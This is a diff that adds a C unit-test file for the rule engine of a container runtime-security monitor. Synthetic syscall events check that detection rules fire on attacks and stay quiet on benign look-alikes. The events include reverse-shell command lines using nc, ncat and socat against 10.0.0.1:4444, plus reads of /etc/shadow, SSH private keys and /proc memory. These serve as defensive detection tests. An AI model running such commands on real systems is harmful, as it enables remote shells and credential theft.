@@ -1,0 +1,741 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/*
+ * src/rules: the default rule set (every rule fires on a synthetic event
+ * like the kernel's and stays quiet on a benign look-alike), `rules check`
+ * errors with their file:line, names resolved across files, rendering, and
+ * the kernel spec of kill/deny rules. Run from the repository root.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <setjmp.h>
+#include <cmocka.h>
+
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <asm/unistd.h>
+
+#include "rules/rules.h"
+
+#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
+#define DEFAULT_RULES "rules/default.yaml"
+#define FIX "tests/unit/rules/"
+
+/* ---- synthetic events ---- */
+
+struct ev_spec {
+	const char *sc;      /* syscall name */
+	const char *path;    /* STR_PATH: file path or exe */
+	const char *extra;   /* STR_EXTRA: path2, or argv separated by spaces for exec */
+	const char *comm;    /* default "app" */
+	uint32_t uid;
+	uint64_t a[6];
+	const char *ip;      /* a sockaddr event when set */
+	int port;
+	bool host;           /* no container */
+};
+
+static const struct container web = {
+	.id = "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899",
+	.runtime = "docker",
+	.name = "web",
+	.image = "nginx:1.25",
+	.running = true,
+};
+
+/* What containers__resolve returns for a host process: no id. */
+static const struct container host_rec = { .runtime = "unknown" };
+
+struct built {
+	struct cactus_event e;
+	struct event_view v;
+};
+
+static void ev_str(struct cactus_event *e, int slot, const char *s)
+{
+	size_t off = e->data_len, len = strlen(s);
+
+	assert_true(off + len + 1 <= CACTUS_DATA_MAX);
+	memcpy(e->data + off, s, len + 1);
+	e->str_off[slot] = off;
+	e->str_len[slot] = len;
+	e->data_len = off + len + 1;
+}
+
+static void ev_addr(struct cactus_event *e, const char *ip, int port)
+{
+	e->flags |= EF_HAS_ADDR;
+	e->port = port;
+	if (inet_pton(AF_INET, ip, e->addr) == 1) {
+		e->family = AF_INET;
+		return;
+	}
+	assert_int_equal(inet_pton(AF_INET6, ip, e->addr), 1);
+	e->family = AF_INET6;
+}
+
+static struct built *build(const struct ev_spec *s)
+{
+	const struct cactus_syscall *sc = cactus_syscall_by_name(s->sc);
+	struct built *b = calloc(1, sizeof(*b));
+	struct cactus_event *e = &b->e;
+
+	assert_non_null(b);
+	assert_non_null(sc);
+	e->syscall_nr = sc->nr;
+	e->pid = 7;
+	e->host_pid = 4242;
+	e->uid = s->uid;
+	memcpy(e->args, s->a, sizeof(e->args));
+	snprintf(e->comm, sizeof(e->comm), "%s", s->comm ? s->comm : "app");
+	if (s->path)
+		ev_str(e, STR_PATH, s->path);
+	if (s->extra) {
+		ev_str(e, STR_EXTRA, s->extra);
+		if (sc->kind == CK_EXEC) {
+			for (char *p = e->data + e->str_off[STR_EXTRA]; *p; p++)
+				*p = *p == ' ' ? 0 : *p;
+			e->flags |= EF_ARGV_NUL;
+		}
+	}
+	if (s->ip)
+		ev_addr(e, s->ip, s->port);
+	event_view_init(&b->v, e, s->host ? &host_rec : &web, 0);
+	return b;
+}
+
+/* ---- the default rule set ---- */
+
+struct rule_case {
+	const char *rule;
+	bool fires;
+	struct ev_spec ev;
+};
+
+#define FIRE(r, s, ...) { r, true, { .sc = s, __VA_ARGS__ } }
+#define QUIET(r, s, ...) { r, false, { .sc = s, __VA_ARGS__ } }
+#define WR (O_WRONLY | O_CREAT | O_TRUNC)
+
+static const struct rule_case cases[] = {
+	FIRE("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id"),
+	FIRE("shell_in_container", "execve", .path = "/usr/bin/bash", .extra = "bash"),
+	QUIET("shell_in_container", "execve", .path = "/bin/sh", .extra = "sh -c id", .host = true),
+	QUIET("shell_in_container", "execve", .path = "/usr/bin/python3", .extra = "python3 -c 1"),
+	FIRE("package_manager_in_container", "execve", .path = "/usr/bin/apt-get",
+	     .extra = "apt-get install nmap"),
+	FIRE("package_manager_in_container", "execve", .path = "/sbin/apk",
+	     .extra = "apk add curl"),
+	QUIET("package_manager_in_container", "execve", .path = "/usr/bin/dpkg-query",
+	      .extra = "dpkg-query -l"),
+	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/tmp/payload", .extra = "payload"),
+	FIRE("drift_exec_from_scratch_dir", "execve", .path = "/dev/shm/x", .extra = "x"),
+	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/usr/bin/ls",
+	      .extra = "ls /tmp/payload"),
+	QUIET("drift_exec_from_scratch_dir", "execve", .path = "/tmpfoo/bin", .extra = "bin"),
+	FIRE("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/tmp/payload", .a = { 0, 0755 }),
+	FIRE("drift_chmod_exec_in_scratch_dir", "fchmodat", .path = "/var/tmp/x",
+	     .a = { 0, 0, 0700 }),
+	QUIET("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/tmp/notes", .a = { 0, 0644 }),
+	QUIET("drift_chmod_exec_in_scratch_dir", "chmod", .path = "/opt/app", .a = { 0, 0755 }),
+	FIRE("crypto_miner_binary", "execve", .path = "/opt/xmrig",
+	     .extra = "xmrig --donate-level 1"),
+	QUIET("crypto_miner_binary", "execve", .path = "/usr/bin/xmllint",
+	      .extra = "xmllint a.xml"),
+	FIRE("crypto_miner_stratum_cmdline", "execve", .path = "/opt/m",
+	     .extra = "m -o stratum+tcp://pool:3333"),
+	QUIET("crypto_miner_stratum_cmdline", "execve", .path = "/usr/bin/curl",
+	      .extra = "curl https://pool/"),
+	FIRE("write_below_etc", "openat", .path = "/etc/passwd",
+	     .a = { 0, 0, O_WRONLY | O_APPEND }),
+	FIRE("write_below_etc", "openat", .path = "/etc/cron.d/job", .a = { 0, 0, WR }),
+	QUIET("write_below_etc", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
+	QUIET("write_below_etc", "openat", .path = "/etcetera/x", .a = { 0, 0, WR }),
+	FIRE("write_below_binary_dirs", "openat", .path = "/usr/bin/ls", .a = { 0, 0, O_RDWR }),
+	FIRE("write_below_binary_dirs", "open", .path = "/bin/ps", .a = { 0, WR }),
+	QUIET("write_below_binary_dirs", "openat", .path = "/usr/bin/ls", .a = { 0, 0, O_RDONLY }),
+	FIRE("write_below_boot", "openat", .path = "/boot/grub/grub.cfg", .a = { 0, 0, WR }),
+	QUIET("write_below_boot", "openat", .path = "/boot/grub/grub.cfg", .a = { 0, 0, O_RDONLY }),
+	FIRE("modify_system_dirs", "unlinkat", .path = "/etc/hosts"),
+	FIRE("modify_system_dirs", "renameat2", .path = "/usr/bin/.ls.tmp", .extra = "/usr/bin/ls"),
+	FIRE("modify_system_dirs", "mkdir", .path = "/usr/lib/evil"),
+	QUIET("modify_system_dirs", "unlinkat", .path = "/tmp/x"),
+	QUIET("modify_system_dirs", "openat", .path = "/etc/hosts", .a = { 0, 0, O_RDONLY }),
+	FIRE("read_credential_files", "openat", .path = "/etc/shadow", .a = { 0, 0, O_RDONLY }),
+	FIRE("read_credential_files", "open", .path = "/etc/sudoers", .a = { 0, O_RDONLY }),
+	QUIET("read_credential_files", "openat", .path = "/etc/passwd", .a = { 0, 0, O_RDONLY }),
+	QUIET("read_credential_files", "openat", .path = "/etc/shadow", .host = true),
+	FIRE("read_sudoers_dir", "openat", .path = "/etc/sudoers.d/admins"),
+	QUIET("read_sudoers_dir", "openat", .path = "/etc/sudo.conf"),
+	FIRE("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa"),
+	FIRE("read_ssh_keys", "openat", .path = "/home/bob/.ssh/id_ed25519"),
+	FIRE("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key"),
+	QUIET("read_ssh_keys", "openat", .path = "/root/.ssh/id_rsa.pub"),
+	QUIET("read_ssh_keys", "openat", .path = "/etc/ssh/ssh_host_rsa_key", .comm = "sshd"),
+	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/1/environ"),
+	FIRE("read_proc_mem_or_environ", "openat", .path = "/proc/4242/mem"),
+	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/self/environ"),
+	QUIET("read_proc_mem_or_environ", "openat", .path = "/proc/1/status"),
+	FIRE("process_memory_access", "process_vm_readv", .a = { 1 }),
+	QUIET("process_memory_access", "process_vm_readv", .a = { 1 }, .host = true),
+	FIRE("chmod_setuid", "fchmodat", .path = "/usr/local/bin/x", .a = { 0, 0, 04755 }),
+	FIRE("chmod_setuid", "chmod", .path = "/tmp/sh", .a = { 0, 02755 }),
+	QUIET("chmod_setuid", "fchmodat", .path = "/usr/local/bin/x", .a = { 0, 0, 0755 }),
+	QUIET("chmod_setuid", "mkdir", .path = "/tmp/d", .a = { 0, 04755 }),
+	FIRE("delete_logs", "unlink", .path = "/var/log/auth.log"),
+	FIRE("delete_logs", "truncate", .path = "/var/log/nginx/access.log"),
+	QUIET("delete_logs", "unlink", .path = "/var/log/auth.log.1", .comm = "logrotate"),
+	QUIET("delete_logs", "unlink", .path = "/var/lib/app/x.log"),
+	FIRE("truncate_logs_on_open", "openat", .path = "/var/log/syslog", .a = { 0, 0, WR }),
+	QUIET("truncate_logs_on_open", "openat", .path = "/var/log/syslog",
+	      .a = { 0, 0, O_WRONLY | O_APPEND }),
+	FIRE("device_node_created", "mknodat", .path = "/dev/sda"),
+	QUIET("device_node_created", "mknodat", .path = "/dev/sda", .host = true),
+	FIRE("memfd_create", "memfd_create"),
+	QUIET("memfd_create", "memfd_create", .host = true),
+	FIRE("fileless_exec_proc_fd", "execve", .path = "/proc/self/fd/3", .extra = "x"),
+	FIRE("fileless_exec_proc_fd", "execve", .path = "/dev/fd/5", .extra = "x"),
+	QUIET("fileless_exec_proc_fd", "execve", .path = "/usr/sbin/fdisk", .extra = "fdisk -l"),
+	FIRE("fileless_execveat_fd", "execveat", .a = { 3, 0, 0, 0, 0x1000 }),
+	QUIET("fileless_execveat_fd", "execveat", .path = "/usr/bin/ls", .extra = "ls", .a = { 3 }),
+	FIRE("ptrace_attach", "ptrace", .a = { 16, 99 }),
+	FIRE("ptrace_attach", "ptrace", .a = { 0x4206, 99 }),
+	QUIET("ptrace_attach", "ptrace", .a = { 0 }),
+	FIRE("kernel_module_load", "finit_module", .a = { 3 }),
+	FIRE("kernel_module_load", "delete_module"),
+	QUIET("kernel_module_load", "finit_module", .host = true),
+	FIRE("kexec_load", "kexec_file_load"),
+	QUIET("kexec_load", "kexec_file_load", .host = true),
+	FIRE("bpf_in_container", "bpf", .a = { 5 }),
+	QUIET("bpf_in_container", "bpf", .a = { 5 }, .host = true),
+	FIRE("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs"),
+	QUIET("mount_in_container", "mount", .path = "/mnt", .extra = "tmpfs",
+	      .comm = "runc:[2:INIT]"),
+	QUIET("mount_in_container", "umount2", .path = "/mnt"),
+	FIRE("sensitive_mount", "mount", .path = "/mnt/sock", .extra = "/var/run/docker.sock"),
+	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/dev/sda1"),
+	FIRE("sensitive_mount", "mount", .path = "/host", .extra = "/"),
+	FIRE("sensitive_mount", "mount", .path = "/mnt", .extra = "/proc/sys/kernel"),
+	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "tmpfs"),
+	QUIET("sensitive_mount", "mount", .path = "/mnt", .extra = "/srv/data"),
+	FIRE("mount_on_proc_sys", "mount", .path = "/proc/sys", .extra = "proc"),
+	QUIET("mount_on_proc_sys", "mount", .path = "/proc/system-like", .extra = "proc"),
+	FIRE("namespace_change", "unshare", .a = { 0x20000 }),
+	FIRE("namespace_change", "setns", .a = { 3 }),
+	QUIET("namespace_change", "setns", .a = { 3 }, .comm = "runc:[2:INIT]"),
+	FIRE("root_change", "chroot", .path = "/host"),
+	FIRE("root_change", "pivot_root", .path = "/newroot", .extra = "/newroot/old"),
+	QUIET("root_change", "chroot", .path = "/host", .comm = "runc"),
+	FIRE("setuid_root", "setuid", .uid = 1000, .a = { 0 }),
+	FIRE("setuid_root", "setresgid", .uid = 33, .a = { 0, 0, 0 }),
+	QUIET("setuid_root", "setuid", .uid = 0, .a = { 0 }),
+	QUIET("setuid_root", "setuid", .uid = 1000, .a = { 1000 }),
+	FIRE("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 0, -1ULL }),
+	QUIET("setuid_root_effective", "setresuid", .uid = 1000, .a = { -1ULL, 1000, -1ULL }),
+	FIRE("capset_in_container", "capset"),
+	QUIET("capset_in_container", "capset", .comm = "runc:[2:INIT]"),
+	FIRE("sethostname_in_container", "sethostname"),
+	QUIET("sethostname_in_container", "sethostname", .host = true),
+	FIRE("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667),
+	FIRE("outbound_connect_unexpected_port", "connect", .ip = "2001:db8::1", .port = 22),
+	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 443),
+	QUIET("outbound_connect_unexpected_port", "connect", .ip = "127.0.0.1", .port = 6667),
+	QUIET("outbound_connect_unexpected_port", "connect", .ip = "::ffff:127.0.0.1",
+	      .port = 6667),
+	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 3333),
+	QUIET("outbound_connect_unexpected_port", "connect", .ip = "203.0.113.5", .port = 6667,
+	      .host = true),
+	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3333),
+	FIRE("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 45700),
+	QUIET("crypto_miner_port_connect", "connect", .ip = "198.51.100.7", .port = 3334),
+	FIRE("listening_socket", "listen", .a = { 3, 128 }),
+	QUIET("listening_socket", "listen", .a = { 3, 128 }, .host = true),
+	FIRE("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 8080),
+	QUIET("bind_inet_port", "bind", .ip = "0.0.0.0", .port = 0),
+	FIRE("reverse_shell_connect", "connect", .comm = "bash", .ip = "10.0.0.1", .port = 4444),
+	QUIET("reverse_shell_connect", "connect", .comm = "curl", .ip = "10.0.0.1", .port = 4444),
+	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/nc",
+	     .extra = "nc -e /bin/sh 10.0.0.1 4444"),
+	FIRE("netcat_remote_shell", "execve", .path = "/usr/bin/ncat",
+	     .extra = "ncat 10.0.0.1 4444 --sh-exec sh"),
+	QUIET("netcat_remote_shell", "execve", .path = "/usr/bin/nc", .extra = "nc -z db 5432"),
+	FIRE("socat_remote_shell", "execve", .path = "/usr/bin/socat",
+	     .extra = "socat TCP:10.0.0.1:4444 EXEC:/bin/bash"),
+	QUIET("socat_remote_shell", "execve", .path = "/usr/bin/socat",
+	      .extra = "socat TCP-LISTEN:8080 TCP:backend:80"),
+};
+
+static struct rule_set *load(const char *const *paths, size_t n, struct rule_errors *errs)
+{
+	struct rule_set *rs = rules__load(paths, n, errs);
+
+	for (size_t i = 0; !rs && i < errs->n; i++)
+		print_error("%s:%d: %s\n", errs->v[i].file, errs->v[i].line, errs->v[i].msg);
+	return rs;
+}
+
+static int setup_default(void **state)
+{
+	const char *path = DEFAULT_RULES;
+	struct rule_errors errs = { 0 };
+
+	*state = load(&path, 1, &errs);
+	rule_errors_free(&errs);
+	return *state ? 0 : -1;
+}
+
+static int teardown_default(void **state)
+{
+	rules__free(*state);
+	return 0;
+}
+
+static const struct rule *find(const struct rule_set *rs, const char *name)
+{
+	for (size_t i = 0; i < rules__count(rs); i++) {
+		if (!strcmp(rule_name(rules__get(rs, i)), name))
+			return rules__get(rs, i);
+	}
+	fail_msg("no rule %s", name);
+	return NULL;
+}
+
+static void test_default_loads(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	assert_true(rules__count(rs) >= 25);
+	for (size_t i = 0; i < rules__count(rs); i++) {
+		const struct rule *r = rules__get(rs, i);
+
+		assert_true(strlen(rule_description(r)) > 0);
+		assert_string_equal(rule_file(r), DEFAULT_RULES);
+		assert_true(rule_line(r) > 0);
+	}
+}
+
+static void test_default_cases(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct built *b = build(&cases[i].ev);
+		bool got = rule_matches(find(rs, cases[i].rule), &b->v);
+
+		free(b);
+		if (got != cases[i].fires)
+			fail_msg("case %zu: %s %s on %s %s", i, cases[i].rule,
+				 got ? "fired" : "did not fire", cases[i].ev.sc,
+				 cases[i].ev.path ? cases[i].ev.path : "");
+	}
+}
+
+/* Every default rule has a triggering case and a benign look-alike. */
+static void test_default_coverage(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	for (size_t i = 0; i < rules__count(rs); i++) {
+		const char *name = rule_name(rules__get(rs, i));
+		int fire = 0, quiet = 0;
+
+		for (size_t j = 0; j < ARRAY_SIZE(cases); j++) {
+			if (!strcmp(cases[j].rule, name))
+				*(cases[j].fires ? &fire : &quiet) += 1;
+		}
+		if (!fire || !quiet)
+			fail_msg("rule %s: %d firing, %d benign cases", name, fire, quiet);
+	}
+}
+
+static void test_default_actions(void **state)
+{
+	const struct rule_set *rs = *state;
+	int kill = 0, deny = 0;
+
+	for (size_t i = 0; i < rules__count(rs); i++) {
+		enum rule_action a = rule_action(rules__get(rs, i));
+
+		kill += a == ACT_KILL;
+		deny += a == ACT_DENY;
+	}
+	assert_int_equal(kill, 2);
+	assert_int_equal(deny, 1);
+	assert_int_equal(rule_action(find(rs, "kernel_module_load")), ACT_KILL);
+	assert_int_equal(rule_action(find(rs, "bpf_in_container")), ACT_KILL);
+	assert_int_equal(rule_action(find(rs, "crypto_miner_port_connect")), ACT_DENY);
+	assert_int_equal(rule_priority(find(rs, "bpf_in_container")), PRIO_CRITICAL);
+	assert_string_equal(rule_priority_name(PRIO_LOW), "low");
+	assert_string_equal(rule_action_name(ACT_DENY), "deny");
+}
+
+static int count_syscalls(const struct kernel_spec *ks)
+{
+	int n = 0;
+
+	for (int i = 0; i < 512; i++)
+		n += ks->syscalls[i];
+	return n;
+}
+
+static void test_default_kernel_specs(void **state)
+{
+	const struct rule_set *rs = *state;
+	struct kernel_spec ks;
+	char why[256];
+
+	assert_int_equal(rules__kernel_spec(find(rs, "kernel_module_load"), &ks, why,
+					    sizeof(why)), 0);
+	assert_int_equal(count_syscalls(&ks), 3);
+	assert_true(ks.syscalls[__NR_init_module] && ks.syscalls[__NR_finit_module] &&
+		    ks.syscalls[__NR_delete_module]);
+	assert_int_equal(ks.n_path + ks.n_exe + ks.n_ports + ks.n_nets + ks.n_containers, 0);
+
+	assert_int_equal(rules__kernel_spec(find(rs, "bpf_in_container"), &ks, why,
+					    sizeof(why)), 0);
+	assert_int_equal(count_syscalls(&ks), 1);
+	assert_true(ks.syscalls[__NR_bpf]);
+	assert_int_equal(ks.n_containers, 0);
+
+	assert_int_equal(rules__kernel_spec(find(rs, "crypto_miner_port_connect"), &ks, why,
+					    sizeof(why)), 0);
+	assert_int_equal(count_syscalls(&ks), 1);
+	assert_true(ks.syscalls[__NR_connect]);
+	assert_int_equal(ks.n_ports, 6);
+	assert_int_equal(ks.ports[0], 3333);
+	assert_int_equal(ks.ports[5], 45700);
+
+	/* an alert rule with except blocks is not kernel-expressible */
+	assert_int_equal(rules__kernel_spec(find(rs, "read_ssh_keys"), &ks, why, sizeof(why)),
+			 -ENOTSUP);
+	assert_non_null(strstr(why, "except"));
+}
+
+static void test_render(void **state)
+{
+	const struct rule_set *rs = *state;
+	struct ev_spec sp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id" };
+	struct ev_spec op = { .sc = "openat", .path = "/etc/cron.d/job",
+		.a = { 0, 0, O_WRONLY | O_CREAT } };
+	struct built *b = build(&sp);
+	char buf[256];
+
+	rule_render(find(rs, "shell_in_container"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "shell /bin/sh started in web by app (pid 7, argv sh -c id)");
+	rule_render(find(rs, "shell_in_container"), &b->v, buf, 12);
+	assert_string_equal(buf, "shell /bin/"); /* truncated, NUL terminated */
+	free(b);
+	b = build(&op);
+	rule_render(find(rs, "write_below_etc"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf,
+		"app opened /etc/cron.d/job for writing (O_WRONLY|O_CREAT) in web");
+	free(b);
+}
+
+/* ---- rules check ---- */
+
+struct want_err {
+	int line;
+	const char *msg;
+};
+
+static const struct want_err want_errors[] = {
+	{ 4, "unknown top-level key 'rulez'" },
+	{ 7, "unknown field 'syscal'" },
+	{ 10, "unknown operator 'startswith'" },
+	{ 13, "bad CIDR '10.0.0.0/33'" },
+	{ 15, "bad priority" },
+	{ 18, "bad action" },
+	{ 21, "unknown syscall 'exceve'" },
+	{ 23, "unknown category 'filez'" },
+	{ 25, "unknown macro 'nope'" },
+	{ 27, "unknown list 'nolist'" },
+	{ 28, "rule 'no_match' has no match" },
+	{ 30, "rule without name" },
+	{ 33, "'path' with operator 'glob' is not evaluated in the kernel" },
+	{ 36, "'root' is not a number" },
+	{ 38, "operator 'glob' does not apply to field 'uid'" },
+	{ 40, "unknown key 'prio'" },
+	{ 45, "macro 'loop_a' uses itself" },
+	{ 48, "duplicate rule name 'good_one' (first defined at " FIX "errors.yaml:46)" },
+	{ 51, "'except' blocks are not evaluated in the kernel" },
+	{ 56, "bad CIDR '10.0.0.0/x'" },
+	{ 56, "bad CIDR '::1/129'" },
+	{ 58, "'good_list' is a list: write {list: good_list}" },
+	{ 62, "empty value for 'comm' never matches" },
+};
+
+static void assert_error(const struct rule_error *e, const char *file, int line,
+			 const char *msg)
+{
+	if (strcmp(e->file, file) || e->line != line || !strstr(e->msg, msg))
+		fail_msg("got %s:%d: %s; want %s:%d: ...%s...", e->file, e->line, e->msg, file,
+			 line, msg);
+}
+
+static void test_check_errors(void **state)
+{
+	const char *path = FIX "errors.yaml";
+	struct rule_errors errs = { 0 };
+
+	(void)state;
+	assert_null(rules__load(&path, 1, &errs));
+	assert_int_equal(errs.n, ARRAY_SIZE(want_errors));
+	for (size_t i = 0; i < errs.n; i++)
+		assert_error(&errs.v[i], path, want_errors[i].line, want_errors[i].msg);
+	rule_errors_free(&errs);
+}
+
+static void test_check_malformed(void **state)
+{
+	const char *paths[] = { FIX "malformed.yaml", FIX "missing.yaml" };
+	struct rule_errors errs = { 0 };
+
+	(void)state;
+	assert_null(rules__load(paths, 2, &errs));
+	assert_int_equal(errs.n, 2);
+	assert_error(&errs.v[0], paths[0], 4, "YAML: did not find expected ',' or ']'");
+	assert_error(&errs.v[1], paths[1], 0, "cannot open: No such file or directory");
+	rule_errors_free(&errs);
+}
+
+static void test_check_duplicate_across_files(void **state)
+{
+	const char *paths[] = { FIX "dup_a.yaml", FIX "dup_b.yaml" };
+	struct rule_errors errs = { 0 };
+
+	(void)state;
+	assert_null(rules__load(paths, 2, &errs));
+	assert_int_equal(errs.n, 1);
+	assert_error(&errs.v[0], paths[1], 4,
+		     "duplicate rule name 'same_name' (first defined at " FIX "dup_a.yaml:1)");
+	rule_errors_free(&errs);
+}
+
+static void check_late_macro(const char *const *paths, size_t n)
+{
+	struct rule_errors errs = { 0 };
+	struct rule_set *rs = load(paths, n, &errs);
+	struct ev_spec yes = { .sc = "execve", .path = "/usr/bin/nmap",
+		.extra = "nmap -sS 10.0.0.0/8" };
+	struct ev_spec no = { .sc = "execve", .path = "/usr/bin/nmap", .extra = "nmap",
+		.host = true };
+	struct built *b1 = build(&yes), *b2 = build(&no);
+
+	assert_non_null(rs);
+	assert_int_equal(rules__count(rs), 1);
+	assert_true(rule_matches(rules__get(rs, 0), &b1->v));
+	assert_false(rule_matches(rules__get(rs, 0), &b2->v));
+	free(b1);
+	free(b2);
+	rules__free(rs);
+	rule_errors_free(&errs);
+}
+
+static void test_check_macro_in_later_file(void **state)
+{
+	const char *files[] = { FIX "split/10-use.yaml", FIX "split/20-define.yaml" };
+	const char *dir = FIX "split";
+
+	(void)state;
+	check_late_macro(files, 2);
+	check_late_macro(&dir, 1);
+}
+
+static void test_check_macro_missing(void **state)
+{
+	const char *path = FIX "split/10-use.yaml";
+	struct rule_errors errs = { 0 };
+
+	(void)state;
+	assert_null(rules__load(&path, 1, &errs));
+	assert_int_equal(errs.n, 2);
+	assert_error(&errs.v[0], path, 5, "unknown macro 'web_container'");
+	assert_error(&errs.v[1], path, 6, "unknown list 'tools'");
+	rule_errors_free(&errs);
+}
+
+/* ---- kernel specs of the fixture ---- */
+
+static int setup_kernel(void **state)
+{
+	const char *path = FIX "kernel.yaml";
+	struct rule_errors errs = { 0 };
+
+	*state = load(&path, 1, &errs);
+	rule_errors_free(&errs);
+	return *state ? 0 : -1;
+}
+
+static void test_kernel_path_containers(void **state)
+{
+	struct kernel_spec ks;
+	char why[256];
+
+	assert_int_equal(rules__kernel_spec(find(*state, "kill_etc_changes_in_web"), &ks, why,
+					    sizeof(why)), 0);
+	assert_int_equal(count_syscalls(&ks), 2);
+	assert_true(ks.syscalls[__NR_openat] && ks.syscalls[__NR_unlinkat]);
+	assert_int_equal(ks.n_path, 1);
+	assert_string_equal(ks.path_prefix[0], "/etc/");
+	assert_false(ks.path_exact[0]);
+	assert_int_equal(ks.n_containers, 2);
+	assert_string_equal(ks.containers[0], "web");
+	assert_string_equal(ks.containers[1], "db");
+
+	assert_int_equal(rules__kernel_spec(find(*state, "kill_shadow"), &ks, why,
+					    sizeof(why)), 0);
+	assert_int_equal(ks.n_path, 1);
+	assert_string_equal(ks.path_prefix[0], "/etc/shadow");
+	assert_true(ks.path_exact[0]);
+}
+
+static void test_kernel_net(void **state)
+{
+	struct kernel_spec ks;
+	char why[256];
+	uint8_t fd00[16] = { 0xfd };
+
+	assert_int_equal(rules__kernel_spec(find(*state, "deny_internal_net"), &ks, why,
+					    sizeof(why)), 0);
+	assert_true(ks.syscalls[__NR_connect]);
+	assert_int_equal(ks.n_ports, 2);
+	assert_int_equal(ks.ports[0], 22);
+	assert_int_equal(ks.ports[1], 3306);
+	assert_int_equal(ks.n_nets, 2);
+	assert_int_equal(ks.nets[0].family, AF_INET);
+	assert_int_equal(ks.nets[0].addr[0], 10);
+	assert_int_equal(ks.nets[0].prefix_len, 8);
+	assert_int_equal(ks.nets[1].family, AF_INET6);
+	assert_memory_equal(ks.nets[1].addr, fd00, 16);
+	assert_int_equal(ks.nets[1].prefix_len, 8);
+}
+
+static void test_kernel_exe_category(void **state)
+{
+	struct kernel_spec ks;
+	char why[256];
+
+	assert_int_equal(rules__kernel_spec(find(*state, "kill_scanners"), &ks, why,
+					    sizeof(why)), 0);
+	/* category process AND activity "Process Create": execve, execveat */
+	assert_int_equal(count_syscalls(&ks), 2);
+	assert_true(ks.syscalls[__NR_execve] && ks.syscalls[__NR_execveat]);
+	assert_int_equal(ks.n_exe, 2);
+	assert_string_equal(ks.exe[1], "/usr/bin/masscan");
+	assert_int_equal(ks.n_containers, 1);
+	assert_string_equal(ks.containers[0], "alpine:3.19");
+}
+
+static void test_kernel_glob_notsup(void **state)
+{
+	struct kernel_spec ks;
+	char why[256];
+
+	assert_int_equal(rules__kernel_spec(find(*state, "glob_alert"), &ks, why, sizeof(why)),
+			 -ENOTSUP);
+	assert_non_null(strstr(why, "glob"));
+}
+
+static void test_render_unknown(void **state)
+{
+	struct ev_spec sp = { .sc = "openat", .path = "/etc/hosts", .comm = "vi" };
+	struct built *b = build(&sp);
+	char buf[256];
+
+	rule_render(find(*state, "glob_alert"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "glob_alert medium alert /etc/hosts %unknown 100% vi%");
+	free(b);
+}
+
+/* ---- cli ---- */
+
+static int run_quiet(int argc, char **argv)
+{
+	int out = dup(1), err = dup(2), null = open("/dev/null", O_WRONLY), rc;
+
+	fflush(stdout);
+	fflush(stderr);
+	dup2(null, 1);
+	dup2(null, 2);
+	rc = cmd_rules(argc, argv);
+	fflush(stdout);
+	fflush(stderr);
+	dup2(out, 1);
+	dup2(err, 2);
+	close(out);
+	close(err);
+	close(null);
+	return rc;
+}
+
+static void test_cli(void **state)
+{
+	char *ok[] = { "rules", "check", DEFAULT_RULES, FIX "split" };
+	char *bad[] = { "rules", "check", FIX "errors.yaml" };
+	char *list[] = { "rules", "list", "--rules", DEFAULT_RULES };
+	char *none[] = { "rules", "list", "--no-default-rules" };
+	char *usage[] = { "rules", "frobnicate" };
+
+	(void)state;
+	assert_int_equal(run_quiet(4, ok), 0);
+	assert_int_equal(run_quiet(3, bad), 1);
+	assert_int_equal(run_quiet(4, list), 0);
+	assert_int_equal(run_quiet(3, none), 0);
+	assert_int_equal(run_quiet(2, usage), 2);
+	assert_int_equal(run_quiet(2, (char *[]){ "rules", "check" }), 2);
+}
+
+static void test_default_path(void **state)
+{
+	const char *p;
+
+	(void)state;
+	setenv("CACTUS_RULES_DIR", "/opt/cactus-rules", 1);
+	assert_string_equal(rules_default_path(), "/opt/cactus-rules/default.yaml");
+	unsetenv("CACTUS_RULES_DIR");
+	p = rules_default_path();
+	assert_true(strlen(p) > 18);
+	assert_string_equal(p + strlen(p) - 18, "rules/default.yaml");
+}
+
+int main(void)
+{
+	const struct CMUnitTest default_tests[] = {
+		cmocka_unit_test(test_default_loads),
+		cmocka_unit_test(test_default_cases),
+		cmocka_unit_test(test_default_coverage),
+		cmocka_unit_test(test_default_actions),
+		cmocka_unit_test(test_default_kernel_specs),
+		cmocka_unit_test(test_render),
+	};
+	const struct CMUnitTest check_tests[] = {
+		cmocka_unit_test(test_check_errors),
+		cmocka_unit_test(test_check_malformed),
+		cmocka_unit_test(test_check_duplicate_across_files),
+		cmocka_unit_test(test_check_macro_in_later_file),
+		cmocka_unit_test(test_check_macro_missing),
+		cmocka_unit_test(test_cli),
+		cmocka_unit_test(test_default_path),
+	};
